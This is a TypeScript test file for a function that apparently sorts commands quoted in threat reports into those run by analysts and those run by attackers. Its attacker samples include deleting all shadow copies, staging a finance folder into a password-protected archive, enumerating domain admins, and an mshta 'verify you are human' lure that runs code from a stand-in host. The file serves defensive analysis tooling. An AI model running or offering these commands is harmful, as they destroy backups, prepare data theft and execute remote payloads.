import { leadIn, ranByAnalyst } from './analyst-voice';

/** The evidence of `command` in `text`, as an extractor reports it. */
const at = (text: string, command: string) => {
  const start = text.indexOf(command);
  return { start, end: start + command.length, text: command };
};

describe('ranByAnalyst', () => {
  it.each([
    [
      'To decode the sample, we ran the deobfuscator below:\n\n```\nperl unpack_strings.pl stage2.js\n```\n',
      'perl unpack_strings.pl stage2.js',
    ],
    ['Analysts can use the following query to list the tasks:\n\n```\nschtasks /query /fo LIST /v\n```\n', 'schtasks /query /fo LIST /v'],
    [
      'The following command can be used to check whether a host was reached:\n\n```\nGet-ChildItem C:\\ProgramData -Recurse -Filter *.lnk\n```\n',
      'Get-ChildItem C:\\ProgramData -Recurse -Filter *.lnk',
    ],
    [
      'We then ran `python3 extract_config.py dropper.bin` on the dropper to recover its settings.',
      'python3 extract_config.py dropper.bin',
    ],
    [
      'Defenders should run `Get-ScheduledTask | Where TaskPath -like "*Updater*"` on every host.',
      'Get-ScheduledTask | Where TaskPath -like "*Updater*"',
    ],
  ])('reads %j as the analyst at work', (text, command) => {
    expect(ranByAnalyst(text, at(text, command))).toBe(true);
  });

  it.each([
    [
      'The actor then ran the following to stage the archive:\n\n```\nrar a -hpQ1 C:\\PerfLogs\\o.rar D:\\Finance\n```\n',
      'rar a -hpQ1 C:\\PerfLogs\\o.rar D:\\Finance',
    ],
    ['To check whether it runs in a sandbox, the loader executes `systeminfo /fo csv`.', 'systeminfo /fo csv'],
    [
      'We observed the following commands executed by the attacker:\n\n```\nnet group "domain admins" /domain\n```\n',
      'net group "domain admins" /domain',
    ],
    [
      'In our lab we ran the sample and it executed:\n\n```\ncmd /c vssadmin delete shadows /all /quiet\n```\n',
      'cmd /c vssadmin delete shadows /all /quiet',
    ],
    [
      'Victims are told to paste this to verify they are human:\n\n```\nmshta https://verify-check.example/c\n```\n',
      'mshta https://verify-check.example/c',
    ],
  ])('keeps %j: the intruder acts', (text, command) => {
    expect(ranByAnalyst(text, at(text, command))).toBe(false);
  });

  it('says nothing without the text or with offsets that do not point at the command', () => {
    expect(ranByAnalyst(undefined, { start: 0, end: 3, text: 'dir' })).toBe(false);
    expect(ranByAnalyst('We ran `dir` here.', { start: 0, end: 3, text: 'dir' })).toBe(false);
  });
});

describe('leadIn', () => {
  it('reads the sentences before the fence of a block, and the sentence a command stands in in prose', () => {
    const block = 'First part. Second part. To decode it, we ran this:\n\n```\nline one\nline two\n```\n';
    expect(leadIn(block, block.indexOf('line two'))).toBe('Second part. To decode it, we ran this:');
    const prose = 'The actor ran tools. We then ran `x` ourselves.';
    expect(leadIn(prose, prose.indexOf('x`'))).toBe('We then ran `');
  });
});
